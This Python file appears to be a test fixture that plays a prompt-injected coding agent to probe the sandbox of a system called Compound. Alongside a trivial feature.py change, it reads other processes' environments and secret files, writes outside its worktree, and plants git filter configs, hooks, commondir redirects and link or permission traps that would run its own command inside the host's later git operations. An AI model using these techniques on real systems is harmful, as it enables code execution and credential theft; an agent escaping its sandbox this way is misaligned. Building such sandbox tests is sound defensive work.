"""A prompt-injected coding agent, for the sandbox tests. Standard library only.

It does an ordinary change (writes feature.py) and, on the side, everything an
attacker would try from inside Compound's agent: read the service's secrets,
other processes' environments, other repositories' mirrors and worktrees, the
operator's HOME; write outside its worktree; and plant git metadata that would
run its own program inside Compound's later git commands.

What to attack comes in the prompt, on a line `HOSTILE-TARGETS: {json}`:

    {"read": [paths], "list": [dirs], "write": [paths], "secrets": [strings],
     "pwned": path, "git": true, "commit": true,
     "symlink": {link: target}, "hardlink": {link: target}, "fifo": [paths],
     "chmod": {path: "0777"}}

With "commit" it also commits its change with its own git, as coding agents do.
"symlink", "hardlink", "fifo" and "chmod" leave traps for Compound, which takes the
worktree (and its git dir) back after the run: links planted in them, modes
that would let the next agent in.

It reports what it reached to `hostile-report.json` in the worktree (so the
report rides along in the pull request) and as its last line of output.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path


def targets(prompt: str) -> dict:
    for line in prompt.splitlines():
        if "HOSTILE-TARGETS:" in line:
            return json.loads(line.split("HOSTILE-TARGETS:", 1)[1].strip())
    return {}


def try_read(path: str) -> str | None:
    try:
        with open(path, "rb") as f:
            return f.read(4096).decode(errors="replace")
    except OSError:
        return None


def environments() -> dict[str, str]:
    """Every process environment this agent can read, by pid."""
    found = {}
    for name in os.listdir("/proc"):
        if name.isdigit():
            text = try_read(f"/proc/{name}/environ")
            if text:
                found[name] = text
    return found


def plant_git(pwned: str) -> list[str]:
    """Metadata tricks that would run `touch pwned` inside Compound's git; what was written."""
    planted = []
    program = f'"touch {pwned}; cat"'  # quoted: `;` would start a comment in git config
    evil = Path(".evil-git")
    evil.mkdir(exist_ok=True)
    (evil / "config").write_text(f'[filter "evil"]\n\tclean = {program}\n\tsmudge = {program}\n\trequired = true\n')
    Path(".gitattributes").write_text("* filter=evil\n")
    planted.append(".gitattributes")
    dotgit = Path(".git")
    gitdir = None
    if dotgit.is_file():
        gitdir = Path(dotgit.read_text().split("gitdir:", 1)[1].strip())
        # A common dir git accepts: the real objects and refs, the agent's config.
        for part in ("objects", "refs", "packed-refs"):
            real = gitdir.parent.parent / part
            if real.exists() and not (evil / part).exists():
                os.symlink(real, evil / part)
    for target, content in [
        (gitdir / "commondir" if gitdir else None, str(evil.resolve()) + "\n"),
        (gitdir / "config.worktree" if gitdir else None, f'[filter "evil"]\n\tclean = {program}\n'),
        (
            gitdir.parent.parent / "config" if gitdir else None,
            f"[core]\n\tbare = true\n\trepositoryformatversion = 1\n[extensions]\n\tworktreeConfig = true\n"
            f'[filter "evil"]\n\tclean = {program}\n\tsmudge = {program}\n',
        ),
        (gitdir.parent.parent / "hooks" / "pre-commit" if gitdir else None, f"#!/bin/sh\ntouch {pwned}\n"),
        (gitdir.parent.parent / "hooks" / "post-checkout" if gitdir else None, f"#!/bin/sh\ntouch {pwned}\n"),
        (gitdir.parent.parent / "info" / "attributes" if gitdir else None, "* filter=evil\n"),
    ]:
        if target is None:
            continue
        try:
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(content)
            if target.parent.name == "hooks":
                target.chmod(0o755)
            planted.append(str(target))
        except OSError:
            pass
    # Last: point the worktree's own `.git` at the evil directory too.
    try:
        (evil / "HEAD").write_text("ref: refs/heads/main\n")
        dotgit.write_text(f"gitdir: {evil.resolve()}\n")
        planted.append(".git")
    except OSError:
        pass
    return planted


def set_traps(want: dict) -> list[str]:
    """Links and modes left for Compound's own processes to trip over; those set.

    `{gitdir}` in a link's path stands for the worktree's git dir (its `.git` names it).
    """
    done = []
    dotgit = Path(".git")
    gitdir = dotgit.read_text().split("gitdir:", 1)[1].strip() if dotgit.is_file() else ".git"
    for kind, make in (("symlink", os.symlink), ("hardlink", os.link)):
        for link, target in want.get(kind, {}).items():
            link = link.replace("{gitdir}", gitdir)
            try:
                Path(link).parent.mkdir(parents=True, exist_ok=True)
                Path(link).unlink(missing_ok=True)
                make(target, link)
                done.append(link)
            except OSError as exc:
                print(f"{kind} {link}: {exc}", file=sys.stderr)
    for path in want.get("fifo", []):
        try:
            Path(path).unlink(missing_ok=True)
            os.mkfifo(path)
            done.append(path)
        except OSError as exc:
            print(f"mkfifo {path}: {exc}", file=sys.stderr)
    for path, mode in want.get("chmod", {}).items():
        try:
            os.chmod(path, int(mode, 8))
            done.append(path)
        except OSError as exc:
            print(f"chmod {path}: {exc}", file=sys.stderr)
    return done


def own_commit() -> str | None:
    """`git add` and `git commit` as an agent runs them; the new HEAD, or None with git's complaint."""
    me = ["-c", "user.name=agent", "-c", "user.email=agent@example.com"]
    for args in (["add", "feature.py"], [*me, "commit", "-q", "-m", "Add feature(), says the agent"]):
        done = subprocess.run(["git", *args], capture_output=True, text=True)
        if done.returncode != 0:
            print(f"git {args[-1]}: {done.stderr.strip()}", file=sys.stderr)
            return None
    return subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True, text=True).stdout.strip()


def main() -> int:
    prompt = sys.stdin.read()
    want = targets(prompt)
    report: dict = {
        "uid": os.getuid(),
        "cwd": os.getcwd(),
        "read": {},
        "listed": {},
        "wrote": [],
        "secrets_seen": [],
        "planted": [],
    }
    for path in want.get("read", []):
        text = try_read(path)
        if text is not None:
            report["read"][path] = text[:200]
    for path in want.get("list", []):
        try:
            report["listed"][path] = sorted(os.listdir(path))[:50]
        except OSError:
            pass
    for path in want.get("write", []):
        try:
            Path(path).parent.mkdir(parents=True, exist_ok=True)
            Path(path).write_text("hostile was here\n")
            report["wrote"].append(path)
        except OSError:
            pass
    envs = environments()
    report["processes_seen"] = len(envs)
    for secret in want.get("secrets", []):
        if any(secret in text for text in envs.values()):
            report["secrets_seen"].append(secret)
    Path("feature.py").write_text("def feature():\n    return 42\n")
    if want.get("commit"):
        report["commit"] = own_commit()
    report["traps"] = set_traps(want)
    if want.get("git"):
        report["planted"] = plant_git(want["pwned"])
    Path("hostile-report.json").write_text(json.dumps(report, indent=1, sort_keys=True))
    print(json.dumps(report, sort_keys=True), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
